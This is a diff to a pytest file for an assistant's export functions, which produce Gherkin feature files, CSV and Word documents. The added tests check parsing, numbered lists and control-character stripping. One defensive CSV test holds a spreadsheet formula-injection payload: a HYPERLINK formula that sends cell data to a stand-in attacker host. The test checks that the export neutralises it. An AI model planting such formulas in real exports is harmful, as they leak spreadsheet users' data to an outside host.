@@ -9,6 +9,8 @@ from typing import Any
 
 import docx
 import pytest
+from gherkin.parser import Parser
+from gherkin.token_scanner import TokenScanner
 
 from ba_assistant.agent.offline_content import Passage, artifact_template
 from ba_assistant.artifacts.export import ExportSource, to_csv, to_feature, to_markdown
@@ -86,10 +88,74 @@ class TestFeature:
         assert '    And the order shows "Partly refunded"' in feature
         assert "**" not in feature and "```" not in feature
 
-    def test_parses_as_gherkin_steps_in_order(self) -> None:
-        feature = to_feature(source(TWO_STORIES))
-        keywords = [line.split()[0] for line in feature.splitlines()[4:] if line.strip()]
-        assert keywords[:6] == ["Scenario:", "Given", "When", "Then", "And", "Scenario:"]
+    def test_cucumbers_own_parser_reads_the_scenarios_and_steps(self) -> None:
+        parsed = Parser().parse(TokenScanner(to_feature(source(TWO_STORIES))))["feature"]
+        assert parsed["name"] == "Refunds"
+        assert "I want to request a partial refund" in parsed["description"]
+        scenarios = [child["scenario"] for child in parsed["children"]]
+        assert [s["name"] for s in scenarios] == [
+            "Refund one item of three",
+            "Refund more than is left",
+            "Approval above the limit",
+        ]
+        assert [step["keyword"].strip() for step in scenarios[0]["steps"]] == [
+            "Given",
+            "When",
+            "Then",
+            "And",
+        ]
+        assert scenarios[0]["steps"][3]["text"] == 'the order shows "Partly refunded"'
+
+    def test_outlines_backgrounds_tables_and_doc_strings_survive(self) -> None:
+        content = """# Refund limits
+
+```gherkin
+Background:
+  Given the customer is signed in
+
+Scenario Outline: Refund up to what is left
+  Given an order with <left> left to refund
+  When the customer asks for <asked>
+  Then the answer is <answer>
+
+  Examples:
+    | left | asked | answer  |
+    | €10  | €5    | refunded |
+    | €10  | €20   | refused  |
+
+Scenario: Items chosen
+  Given these items:
+    | item | price |
+    | mug  | €8    |
+  When the customer refunds them
+  Then the email says:
+    \"\"\"
+    Your refund of €8.00 is on its way.
+    \"\"\"
+```
+"""
+        feature = to_feature(source(content, "Refund limits", "acceptance_criteria"))
+        parsed = Parser().parse(TokenScanner(feature))["feature"]
+        background, outline, plain = (next(iter(c.values())) for c in parsed["children"])
+        assert background["keyword"] == "Background"
+        assert background["steps"][0]["text"] == "the customer is signed in"
+        assert outline["keyword"] == "Scenario Outline"
+        [examples] = outline["examples"]
+        assert [cell["value"] for cell in examples["tableHeader"]["cells"]] == [
+            "left",
+            "asked",
+            "answer",
+        ]
+        assert [[c["value"] for c in row["cells"]] for row in examples["tableBody"]] == [
+            ["€10", "€5", "refunded"],
+            ["€10", "€20", "refused"],
+        ]
+        table = plain["steps"][0]["dataTable"]["rows"]
+        assert [[c["value"] for c in row["cells"]] for row in table] == [
+            ["item", "price"],
+            ["mug", "€8"],
+        ]
+        assert plain["steps"][2]["docString"]["content"] == "Your refund of €8.00 is on its way."
 
     def test_without_scenarios_it_is_422_and_says_why(self) -> None:
         with pytest.raises(Unprocessable, match="no Given/When/Then scenarios"):
@@ -133,6 +199,15 @@ class TestCsv:
         assert '"Partly refunded"' in criteria
         assert b'"User Story","Request a partial' in data  # every field quoted
         assert b"\r\n" in data
+
+    def test_cells_excel_would_run_as_formulas_are_defused(self) -> None:
+        story = (
+            'As a user, I want =HYPERLINK("http://evil.example/?"&A1,"Click"), so that x.\n\n'
+            "Scenario: -1+1\n  Given @everyone\n  When x\n  Then y\n"
+        )
+        rows = list(csv.reader(io.StringIO(to_csv(source(story)).decode("utf-8-sig"))))
+        assert rows[1][1].startswith("'=HYPERLINK(")
+        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in rows[1])
 
     def test_without_stories_it_is_422(self) -> None:
         with pytest.raises(Unprocessable, match="no user stories"):
@@ -212,6 +287,35 @@ class TestWord:
         cells = [[cell.text for cell in row.cells] for row in table.rows]
         assert cells == [["Field", "Rule"], ["Amount", "≤ €500"], ["Reason", "required"]]
         assert all(run.bold for run in table.rows[0].cells[0].paragraphs[0].runs)
+
+    def test_each_numbered_list_counts_from_its_own_start(self) -> None:
+        data = to_docx(
+            source("1. a\n2. b\n\nBetween.\n\n1. c\n2. d\n\nAgain.\n\n5. five\n6. six\n"),
+            author="Ann",
+        )
+        document = docx.Document(io.BytesIO(data))
+        items = [p for p in document.paragraphs if p.style.name == "List Number"]
+        assert [p.text for p in items] == ["a", "b", "c", "d", "five", "six"]
+        ids = [p._p.pPr.numPr.numId.val for p in items]
+        assert ids[0] == ids[1] and ids[2] == ids[3] and ids[4] == ids[5]
+        assert len({ids[0], ids[2], ids[4]}) == 3  # three lists, not one running on
+        numbering = document.part.numbering_part.element
+        starts = [
+            numbering.num_having_numId(number).xpath("./w:lvlOverride/w:startOverride/@w:val")
+            for number in (ids[0], ids[2], ids[4])
+        ]
+        assert starts == [["1"], ["1"], ["5"]]
+
+    def test_images_become_their_alt_text_and_control_characters_go(self) -> None:
+        data = to_docx(
+            source("Chart: ![refunds by month](https://example.com/c.png)\n\nTab\x0bbed\x1b."),
+            author="Ann\x0c",
+        )
+        document = docx.Document(io.BytesIO(data))
+        texts = [p.text for p in document.paragraphs]
+        assert "Chart: [image: refunds by month]" in texts
+        assert "Tabbed." in texts
+        assert document.core_properties.author == "Ann"
 
     def test_code_is_monospace_and_raw_html_stays_text(self) -> None:
         document = self.document()
